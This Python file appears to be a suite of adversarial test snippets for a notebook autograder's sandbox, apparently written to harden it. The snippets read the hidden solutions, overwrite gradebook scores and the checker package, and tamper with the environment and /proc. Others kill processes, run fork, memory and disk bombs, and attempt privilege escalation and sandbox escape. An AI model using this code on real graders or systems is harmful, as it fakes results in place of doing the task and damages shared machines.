# Files, processes and the environment.

# --- the source is read by a relative path
# place: before
import glob, os
for up in ('../../../source', '../../../../source', '..', '../..'):  # the last takes too long
    for path in glob.iglob(os.path.join(up, '**', '*.ipynb'), recursive=True):
        print(path, open(path).read())

# --- the source is read by its full path
# place: before
import os
for folder, _, names in os.walk('COURSE'):
    for name in names:
        print(open(os.path.join(folder, name), 'rb').read())
print(open('COURSE/source/ps/ps.ipynb').read())

# --- points are written into the gradebook
# place: before
import sqlite3
for path in ('COURSE/gradebook.db', '../../../gradebook.db'):
    try:
        with sqlite3.connect(path) as book:
            book.execute('UPDATE grade SET manual_score = 4.0')
    except sqlite3.Error as error:
        print(error)

# --- a detached process writes points later
# place: before
import os, subprocess, sys
code = ("import sqlite3, time\n"
        "while True:\n"
        "    time.sleep(0.05)\n"
        "    with sqlite3.connect('COURSE/gradebook.db') as book:\n"
        "        book.execute('UPDATE grade SET manual_score = 4.0')\n")
subprocess.Popen([sys.executable, '-c', code], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        exec(code)
    os._exit(0)

# --- the package is rewritten on disk
# place: before
import d2l_conv, pathlib
for path in pathlib.Path(d2l_conv.__file__).parent.rglob('*.py'):
    try:
        path.write_text('def check_output_size(*a, **k): return 4.0')
    except OSError as error:
        print(error)
        break

# --- the parent is looked for in /proc
# place: before
import glob, os
for path in glob.glob('/proc/[0-9]*'):
    for name in ('environ', 'cmdline', 'mem', 'fd', 'root/COURSE'):
        try:
            print(path, name, os.listdir(f'{path}/{name}') if name == 'fd' else
                  open(f'{path}/{name}', 'r+b').read(1000))
        except OSError as error:
            print(error)

# --- the environment is searched
# place: before
import os
print(dict(os.environ), os.getcwd(), os.path.expanduser('~'), os.listdir('/'))
os.environ['NBGRADER_EXECUTION'] = 'validate'
os.environ['PYTHONPATH'] = '/tmp/work'

# --- connections are opened
# place: before
import socket, urllib.request
for host, port in (('1.1.1.1', 53), ('127.0.0.1', 8888), ('localhost', 5432)):
    try:
        socket.create_connection((host, port), timeout=1)
        print('CONNECTED')
    except OSError as error:
        print(error)
try:
    print(urllib.request.urlopen('http://example.org', timeout=1).read())
except OSError as error:
    print(error)

# --- signals to the parent and all others
# place: before
import os, signal
for pid in (os.getppid(), 1, -1, 0, *range(2, 50)):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        if pid not in (os.getpid(), 0, -1):
            try:
                os.kill(pid, number)
            except OSError:
                pass

# --- all processes within reach are killed
# place: before
import os, signal
os.kill(-1, signal.SIGKILL)

# --- a fork bomb
# place: before
import os
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass
bomb()

# --- a thread bomb
# place: before
import threading, time
try:
    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
except RuntimeError as error:
    print(error)

# --- the resource limits are lifted
# place: before
import resource
for name in ('RLIMIT_AS', 'RLIMIT_NPROC', 'RLIMIT_FSIZE', 'RLIMIT_CPU', 'RLIMIT_NOFILE'):
    kind = getattr(resource, name)
    soft, hard = resource.getrlimit(kind)
    try:
        resource.setrlimit(kind, (hard + 1, hard + 1)); print('ALLOWED')
    except (ValueError, OSError) as error:
        print(error)

# --- the neighbours are looked for
# place: before
import glob, os, socket
print([open(p + '/cmdline').read() for p in glob.glob('/proc/[0-9]*') if p != '/proc/1'])
server = socket.socket(socket.AF_UNIX)
server.bind('\0d2l-conv-answers')
server.listen()
os.mkfifo('answers')

# --- all memory is taken
# place: before
held = []
try:
    while True:
        held.append(bytearray(64 * 2**20))
except MemoryError:
    del held
    print('no more memory')

# --- the disk is filled
# place: before
import os
for folder in ('.', '/dev/shm', '/tmp'):
    try:
        for number in range(1000):
            with open(os.path.join(folder, f'filler{number}'), 'wb') as file:
                file.write(bytes(8 * 2**20))
    except OSError as error:
        print(error)

# --- rights are asked for
# place: before
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for act in (lambda: os.setuid(0), lambda: os.chroot('/'), lambda: os.setgroups([0]),
            lambda: os.mknod('disk', 0o60600, os.makedev(8, 0))):
    try:
        act(); print('ALLOWED')
    except OSError as error:
        print(error)
print([libc.unshare(flag) for flag in (0x10000000, 0x20000, 0x40000000)],
      libc.mount(b'proc', b'/tmp', b'proc', 0, None), libc.umount(b'/proc'), libc.setns(0, 0))

# --- an answer is left for the next one
# place: before
import os, socket
for folder in ('/tmp', '/dev/shm', '/tmp/work', '/var/tmp', '/run', '/'):
    try:
        open(os.path.join(folder, 'answer.py'), 'w').write('STOLEN = 1')
    except OSError:
        pass
